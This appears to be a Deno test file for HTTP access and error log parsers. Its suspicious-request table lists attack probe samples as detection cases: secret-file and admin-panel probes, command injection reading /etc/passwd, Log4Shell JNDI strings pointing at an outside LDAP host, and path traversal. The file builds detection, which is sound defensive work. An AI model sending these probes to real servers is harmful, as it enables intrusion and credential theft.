import { assertEquals, assertOk } from "./_assert.ts";
import { checkFixture, collect } from "./_fixture_harness.ts";
import {
  createHttpAccessParser,
  isSuspiciousRequest,
  MAX_PATH_LENGTH,
  PATTERNS as ACCESS_PATTERNS,
  sniffHttpAccess,
  SUSPICIOUS_RULES,
  suspiciousReason,
  unescapeLogField,
} from "../lib/logs/http_access.ts";
import {
  createHttpErrorParser,
  PATTERNS as ERROR_PATTERNS,
  sniffHttpError,
} from "../lib/logs/http_error.ts";
import { KINDS } from "../lib/logs/kinds.ts";
import type { LineSink, ParsedEvent } from "../lib/logs/types.ts";
import { TimeKind } from "../lib/logs/types.ts";

const FIXTURES = new URL("./fixtures/http/", import.meta.url).pathname;

Deno.test("createHttpAccessParser() matches tests/fixtures/http/access.log", async (t) => {
  await checkFixture(t, `${FIXTURES}access.log`, createHttpAccessParser, {
    patterns: ACCESS_PATTERNS,
  });
});

/** The error-log PATTERNS of one server (`apache…` or `nginx…` keys). */
function errorPatternsOf(server: "apache" | "nginx"): Record<string, unknown> {
  const entries = Object.entries(ERROR_PATTERNS).filter(([name]) => name.startsWith(server));
  return Object.fromEntries(entries);
}

Deno.test("error PATTERNS are all Apache or nginx patterns", () => {
  const split = Object.keys(errorPatternsOf("apache")).length +
    Object.keys(errorPatternsOf("nginx")).length;
  assertEquals(split, Object.keys(ERROR_PATTERNS).length);
});

Deno.test("createHttpErrorParser() matches tests/fixtures/http/apache-error.log", async (t) => {
  await checkFixture(t, `${FIXTURES}apache-error.log`, createHttpErrorParser, {
    patterns: errorPatternsOf("apache"),
  });
});

Deno.test("createHttpErrorParser() matches tests/fixtures/http/nginx-error.log", async (t) => {
  await checkFixture(t, `${FIXTURES}nginx-error.log`, createHttpErrorParser, {
    patterns: errorPatternsOf("nginx"),
  });
});

/** Events of one line, as the parser passed them (copied). */
function eventsOf(parse: (line: string, sink: LineSink) => void, line: string) {
  const events: ParsedEvent[] = [];
  const bad: string[] = [];
  let skipped = 0;
  parse(line, {
    emit: (e) => events.push({ ...e }),
    bad: (reason) => bad.push(reason),
    skip: () => skipped++,
  });
  return { events, bad, skipped };
}

Deno.test("http-access events leave absent fields undefined", () => {
  const parser = createHttpAccessParser();
  const { events } = eventsOf(
    parser.parseLine,
    '192.0.2.20 - - [28/Jan/2024:07:05:02 +0000] "-" 408 -',
  );
  assertEquals(events.length, 1);
  const e = events[0];
  assertEquals(e.timeKind, TimeKind.Absolute);
  assertEquals(KINDS[e.kind].name, "http_request");
  for (const key of ["user", "method", "path", "bytes", "referrer", "agent", "host", "port"]) {
    assertEquals(e[key as keyof ParsedEvent], undefined, key);
  }
  const combined = eventsOf(
    parser.parseLine,
    '192.0.2.21 - - [28/Jan/2024:07:05:03 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
  ).events[0];
  assertEquals([combined.referrer, combined.agent, combined.detail], [
    undefined,
    undefined,
    undefined,
  ]);
});

Deno.test("http-access cuts long request targets to MAX_PATH_LENGTH", () => {
  const parser = createHttpAccessParser();
  const long = "/" + "A".repeat(5000);
  const { events } = eventsOf(
    parser.parseLine,
    `192.0.2.1 - - [28/Jan/2024:07:05:02 +0000] "GET ${long} HTTP/1.1" 414 0`,
  );
  assertEquals(events[0].path, long.slice(0, MAX_PATH_LENGTH));
  const garbage = eventsOf(
    parser.parseLine,
    `192.0.2.1 - - [28/Jan/2024:07:05:02 +0000] "${"\\x00".repeat(1000)}" 400 0`,
  );
  assertEquals(garbage.events[0].path?.length, MAX_PATH_LENGTH);
  assertEquals(garbage.events[0].method, undefined);
});

Deno.test("http-access skips blank lines and host names without a bad report", () => {
  const parser = createHttpAccessParser();
  for (
    const line of [
      "",
      'crawler.example.net - - [28/Jan/2024:07:04:03 +0000] "GET / HTTP/1.1" 200 10',
    ]
  ) {
    const result = eventsOf(parser.parseLine, line);
    assertEquals([result.events.length, result.bad.length, result.skipped], [0, 0, 1], line);
  }
});

Deno.test("http-error events are wall clock and leave absent fields undefined", () => {
  const parser = createHttpErrorParser();
  const apache = eventsOf(
    parser.parseLine,
    "[Sun Jan 28 07:02:00 2024] [error] [client 2001:db8::3] user  not found: /",
  ).events[0];
  assertEquals(apache.timeKind, TimeKind.Wall);
  assertEquals([apache.user, apache.host, apache.jail], [undefined, undefined, undefined]);
  const nginx = eventsOf(
    parser.parseLine,
    "2024/01/28 07:06:00 [info] 1#1: *7 client sent invalid method while reading client " +
      "request line, client: 203.0.113.9, server: _",
  ).events[0];
  assertEquals(nginx.timeKind, TimeKind.Wall);
  assertEquals([nginx.user, nginx.path, nginx.jail], [undefined, undefined, undefined]);
});

Deno.test("http-error does not carry fields from one line into the next", () => {
  const parser = createHttpErrorParser();
  const lines = [
    '2024/01/28 07:01:57 [error] 1#1: *5 user "bob" was not found in "/x", client: ' +
    '192.0.2.1, server: example.org, request: "GET /private/ HTTP/1.1", host: "example.org"',
    "2024/01/28 07:06:00 [info] 1#1: *7 client sent invalid method while reading client " +
    "request line, client: 203.0.113.9",
  ];
  const { events } = collect(parser, lines);
  assertEquals(events[1].length, 1);
  const second = events[1][0];
  assertEquals([second.user, second.path, second.host], [undefined, undefined, undefined]);
});

Deno.test("isSuspiciousRequest() follows the documented rules", async (t) => {
  const cases: [string | undefined, string | undefined, number, string | undefined][] = [
    // not suspicious
    ["GET", "/", 200, undefined],
    ["GET", "/favicon.ico", 404, undefined],
    ["GET", "/robots.txt", 404, undefined],
    ["GET", "/apple-touch-icon.png", 404, undefined],
    ["POST", "/api/items", 201, undefined],
    ["OPTIONS", "*", 200, undefined],
    ["PROPFIND", "/remote.php/dav/", 207, undefined],
    ["GET", "/.well-known/acme-challenge/abc", 200, undefined],
    ["GET", "/wp-content/uploads/2024/01/cat.jpg", 200, undefined],
    ["GET", "/docs/environment.html", 200, undefined],
    ["GET", "/shop/cart", 500, undefined],
    [undefined, undefined, 408, undefined],
    [undefined, undefined, 499, undefined],
    // refused by the server
    [undefined, undefined, 400, "refusedStatus"],
    ["GET", "/private/", 401, "refusedStatus"],
    ["GET", "/admin", 403, "refusedStatus"],
    ["DELETE", "/", 405, "refusedStatus"],
    ["GET", "/a", 414, "refusedStatus"],
    ["GET", "/", 429, "refusedStatus"],
    ["GET", "/", 444, "refusedStatus"],
    ["GET", "/", 494, "refusedStatus"],
    ["GET", "/", 495, "refusedStatus"],
    ["GET", "/", 496, "refusedStatus"],
    ["GET", "/", 497, "refusedStatus"],
    // probe paths, whatever the status
    ["GET", "/wp-login.php", 200, "wordpressProbe"],
    ["POST", "/blog/xmlrpc.php", 404, "wordpressProbe"],
    ["GET", "/wp-includes/wlwmanifest.xml", 404, "wordpressProbe"],
    ["GET", "/wp-config.php.bak", 404, "wordpressProbe"],
    ["GET", "/.env", 404, "secretFileProbe"],
    ["GET", "/laravel/.env.production", 404, "secretFileProbe"],
    ["GET", "/.git/HEAD", 404, "secretFileProbe"],
    ["GET", "/.svn/entries", 404, "secretFileProbe"],
    ["GET", "/.aws/credentials", 404, "secretFileProbe"],
    ["GET", "/.DS_Store", 404, "secretFileProbe"],
    ["GET", "/phpinfo.php", 404, "secretFileProbe"],
    ["GET", "/phpmyadmin/", 404, "adminPanelProbe"],
    ["GET", "/phpMyAdmin-5.2.1/index.php", 404, "adminPanelProbe"],
    ["GET", "/pma/scripts/setup.php", 404, "adminPanelProbe"],
    ["GET", "/manager/html", 404, "adminPanelProbe"],
    ["GET", "/actuator/env", 404, "adminPanelProbe"],
    ["GET", "/cgi-bin/luci/;stok=/locale", 404, "deviceExploitProbe"],
    ["POST", "/boaform/admin/formLogin", 404, "deviceExploitProbe"],
    ["GET", "/HNAP1/", 404, "deviceExploitProbe"],
    ["POST", "/GponForm/diag_Form?images/", 404, "deviceExploitProbe"],
    ["POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "phpExploitProbe"],
    ["GET", "/index.php?s=/index/\\think\\app/invokefunction", 404, "phpExploitProbe"],
    ["POST", "/hello.world?%ADd+allow_url_include%3d1", 404, "phpExploitProbe"],
    ["GET", "/shell?cd+/tmp", 404, "commandInjection"],
    ["GET", "/?cmd=cat+/etc/passwd", 200, "commandInjection"],
    ["GET", "/?x=${jndi:ldap://198.51.100.1/a}", 200, "commandInjection"],
    ["GET", "/?x=%24%7Bjndi:ldap://198.51.100.1/a%7D", 200, "commandInjection"],
    // traversal
    ["GET", "/../../etc/passwd", 400, "pathTraversal"],
    ["GET", "/static/..%2f..%2fetc/hosts", 404, "pathTraversal"],
    ["GET", "/%2e%2e/%2e%2e/etc/hosts", 404, "pathTraversal"],
    ["GET", "/icons/.%2e/.%2e/etc/hosts", 404, "pathTraversal"],
    ["GET", "/a/..\\..\\windows\\win.ini", 404, "pathTraversal"],
    ["GET", "/..;/manager/html", 404, "pathTraversal"],
    // request lines
    [undefined, "\\x16\\x03\\x01\\x00\\xca\\x01", 400, "binaryRequest"],
    [undefined, "HELP", 400, "malformedRequest"],
    [undefined, "GET /", 200, "malformedRequest"],
    ["CONNECT", "example.org:443", 200, "probeMethod"],
    ["TRACE", "/", 405, "probeMethod"],
    ["TRACK", "/", 200, "probeMethod"],
    ["get", "/", 200, "unknownMethod"],
    ["PRI", "*", 400, "unknownMethod"],
    ["GET", "http://example.com/", 200, "proxyTarget"],
    ["GET", "example.com:80", 400, "proxyTarget"],
    ["GET", "*", 400, "proxyTarget"],
  ];
  for (const [method, path, status, reason] of cases) {
    await t.step(`${method} ${path} ${status} → ${reason ?? "not suspicious"}`, () => {
      assertEquals(suspiciousReason(method, path, status), reason);
      assertEquals(isSuspiciousRequest(method, path, status), reason !== undefined);
    });
  }
});

Deno.test("SUSPICIOUS_RULES are named, described and each used by a case", () => {
  const names = SUSPICIOUS_RULES.map((rule) => rule.name);
  assertEquals(new Set(names).size, names.length);
  for (const rule of SUSPICIOUS_RULES) {
    assertOk(rule.description.length > 20, rule.name);
  }
  assertOk(!SUSPICIOUS_RULES.some((rule) => rule.statuses?.includes(404)), "404 is normal");
  assertOk(!SUSPICIOUS_RULES.some((rule) => rule.statuses?.includes(408)), "408 is normal");
});

Deno.test("unescapeLogField() decodes quotes and backslashes only", async (t) => {
  const cases: [string, string][] = [
    ["plain", "plain"],
    ['a \\"b\\"', 'a "b"'],
    ["a \\x22b\\x22", 'a "b"'],
    ["C:\\\\", "C:\\"],
    ["C:\\x5C", "C:\\"],
    ["C:\\x5c", "C:\\"],
    ["\\x16\\x03", "\\x16\\x03"],
    ["\\\\x22", "\\x22"],
    ["\\", "\\"],
    ["\\x2", "\\x2"],
  ];
  for (const [input, output] of cases) {
    await t.step(`${input} → ${output}`, () => assertEquals(unescapeLogField(input), output));
  }
});

Deno.test("sniffHttpAccess() and sniffHttpError() tell the formats apart", async (t) => {
  const access = '192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326';
  const vhost = 'example.org:443 192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1';
  const apache =
    "[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 1:tid 2] [client 192.0.2.1:5] x";
  const apache22 = "[Wed Oct 11 14:32:52 2000] [error] [client 192.0.2.1] x";
  const nginx = "2024/01/28 07:01:57 [error] 1234#1234: *5 access forbidden by rule";
  const syslog = "Jan 28 07:01:57 host sshd[123]: Failed password for root from 192.0.2.1";
  const fail2ban = "2024-01-28 07:01:57,512 fail2ban.actions [1]: NOTICE [sshd] Ban 192.0.2.1";
  const cases: [string, boolean, boolean][] = [
    [access, true, false],
    [vhost, true, false],
    [apache, false, true],
    [apache22, false, true],
    [nginx, false, true],
    [syslog, false, false],
    [fail2ban, false, false],
    ["", false, false],
  ];
  for (const [line, isAccess, isError] of cases) {
    await t.step(line.slice(0, 60) || "(empty)", () => {
      assertEquals(sniffHttpAccess(line), isAccess);
      assertEquals(sniffHttpError(line), isError);
    });
  }
});

Deno.test("http parsers never throw on arbitrary input", () => {
  const access = createHttpAccessParser();
  const error = createHttpErrorParser();
  const sink: LineSink = { emit: () => {}, bad: () => {}, skip: () => {} };
  const seeds = [
    '192.0.2.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 2326 "r" "a"',
    'example.org:443 2001:db8::1 - - [10/Oct/2000:13:55:36 -0700] "\\x16\\"" 400 - "-" "-"',
    "[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 1:tid 2] [client [2001:db8::1]:5] " +
    'AH01617: user x: authentication failure for "/x": Password Mismatch',
    '2024/01/28 07:01:57 [error] 1#1: *5 user "b" was not found in "/x", client: 192.0.2.1, ' +
    'server: , request: "GET / HTTP/1.1", host: "h"',
    '2024/01/28 07:01:57 [error] 1#1: *5 open() "/x" failed (2: No such file or directory), ' +
    "client: 192.0.2.1",
  ];
  const alphabet = " \"\\[]:,-/x0123456789abcAH*#()`'.";
  let state = 12345;
  const random = (n: number) => {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    return state % n;
  };
  for (const seed of seeds) {
    for (let cut = 0; cut <= seed.length; cut++) {
      access.parseLine(seed.slice(0, cut), sink);
      error.parseLine(seed.slice(0, cut), sink);
    }
    for (let i = 0; i < 2000; i++) {
      const chars = seed.split("");
      for (let m = 0; m < 3; m++) chars[random(chars.length)] = alphabet[random(alphabet.length)];
      const line = chars.join("");
      access.parseLine(line, sink);
      error.parseLine(line, sink);
    }
  }
});
